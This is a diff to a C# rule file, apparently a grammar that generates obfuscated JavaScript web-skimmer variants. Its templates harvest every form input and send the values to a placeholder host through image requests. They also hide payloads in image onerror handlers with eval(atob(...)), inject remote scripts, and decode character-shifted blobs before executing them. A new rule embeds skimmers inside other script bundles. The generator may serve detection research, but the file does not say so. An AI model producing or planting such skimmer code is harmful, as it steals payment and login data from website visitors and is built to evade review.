@@ -27,6 +27,21 @@ internal static class SkimmerRules
         3× «decoder»
         2× «channel»
         2× «teaching»
+        22× «skimFramework»
+        6× «skimWoven»
+        6× «skimIntercept»
+        5× «skimOverlay»
+        4× «skimKeys»
+        5× «skimExtension»
+        3× «skimWorker»
+        2× «skimPicture»
+        3× «skimBundle»
+
+        ¶ A bundle with a skimmer in the midst of it; within another script it is the skimmer alone.
+        §skimBundle
+        «collector»
+        «inline»
+        «skimFramework»
 
         ¶ ---- functions of their own for reading, hiding and sending ----
         §collector
@@ -256,7 +271,7 @@ internal static class SkimmerRules
         §attribute
         «wrap‹var °i=document.createElement('img');°i.setAttribute('src','«!letters‹1›»');°i.setAttribute('onerror',«hiddenText‹if(location.href.indexOf('«checkWord»')>0){var s=document.createElement('script');s.src='«url»';document.body.appendChild(s)}›»);document.body.appendChild(°i);›»
         «wrap‹document.body.insertAdjacentHTML('beforeend','<img style="display:none" src="«!letters‹1›»" onerror="'+«hiddenText‹eval(atob(this.id))›»+'" id="«!b64‹(new Image).src='«url»?'+document.forms[0].elements[«#0-9»].value›»">');›»
-        var a=document.querySelectorAll('input'),b='';if(«gate»){for(var i=0;i<a.length;i++){b+=a[i].name+'='+a[i].value+'&'}(new Image()).src=«target»+'?'+«hideText‹b›»}
+        var @a=document.querySelectorAll('input'),@b='';if(«gate»){for(var @i=0;@i<@a.length;@i++){@b+=@a[@i].name+'='+@a[@i].value+'&'}(new Image()).src=«target»+'?'+«hideText‹@b›»}
         «wrap‹«condition‹document.querySelectorAll('«anySel»').forEach(function(°f){°f.setAttribute('on«event»',"«new Image¦(new Image)».src='«url»?«!letters‹1›»='+encodeURIComponent(this.name+'='+this.value)");});›»›»
 
         ¶ ---- code or host taken from a picture, a style or blanks ----
@@ -281,7 +296,7 @@ internal static class SkimmerRules
         «wrap‹var @a='«!id‹«#200-900»›»',@f=function(°x,°n,°m){for(var °r='',°i=0;°i<°x.length;°i++){°r+=°x.charAt((°i*°n+°m)%°x.length);}return °r;};function @g(){return @f(@a,«#3-4999»,«#3-4999»);}«condition‹«hook‹function(){«readInto‹°d›»°d.k=@g();«send‹«hide‹°d›»›‹@f('«!id‹«#20-40»›»',«#3-99»,«#2-88»)›»}›»›»›»
         var @t="«!blob‹«#120-800»›»";«decodeFn‹@dec›»(function(°c){«evaluate‹°c›»})(@dec(@t,«#1-25»));
         «wrap‹var @z=[«!codes‹«url»›‹7›»];var @u='';for(var °i=0;°i<@z.length;°i++){@u+=String.fromCharCode(@z[°i]-7);}«condition‹«hook‹function(){«readInto‹°d›»«send‹«hide‹°d›»›‹@u›»}›»›»›»
-        var @x='«!blob‹«#100-500»›»',@y='';for(var i=0;i<@x.length;i++){var c=@x.charCodeAt(i);@y+=String.fromCharCode(c===«#33-47»?c:c+«#1-9»);}«evaluate‹unescape(@y.replace(/#/g,'%'))›»
+        var @x='«!blob‹«#100-500»›»',@y='';for(var @i=0;@i<@x.length;@i++){var @c=@x.charCodeAt(@i);@y+=String.fromCharCode(@c===«#33-47»?@c:@c+«#1-9»);}«evaluate‹unescape(@y.replace(/#/g,'%'))›»
 
         §decodeFn
         function ¹(°s,°n){return °s.replace(/[\s\S]/g,function(°c){return String.fromCharCode(°c.charCodeAt(0)-°n);});}
